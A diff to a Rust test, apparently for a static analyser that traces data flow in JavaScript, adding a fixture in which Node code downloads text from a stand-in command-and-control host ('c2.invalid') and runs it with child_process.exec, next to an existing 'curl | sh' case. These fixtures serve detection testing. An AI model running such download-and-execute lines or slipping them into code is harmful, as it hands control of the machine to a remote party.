@@ -250,6 +250,11 @@ fn data_is_followed_from_source_to_sink() {
             CapabilityId::NetConnect,
             CapabilityId::ProcessSpawn,
         ),
+        (
+            "require('https').get('https://c2.invalid/x', res => { let b = ''; res.on('data', c => b += c); res.on('end', () => require('child_process').exec(b)) })",
+            CapabilityId::NetConnect,
+            CapabilityId::ProcessSpawn,
+        ),
         ("require('child_process').exec('curl -s https://c2.invalid/x | sh')", CapabilityId::NetConnect, CapabilityId::ProcessSpawn),
     ] {
         let facts = on_big_stack(|| analyse(None, &[("index.js", code)]));
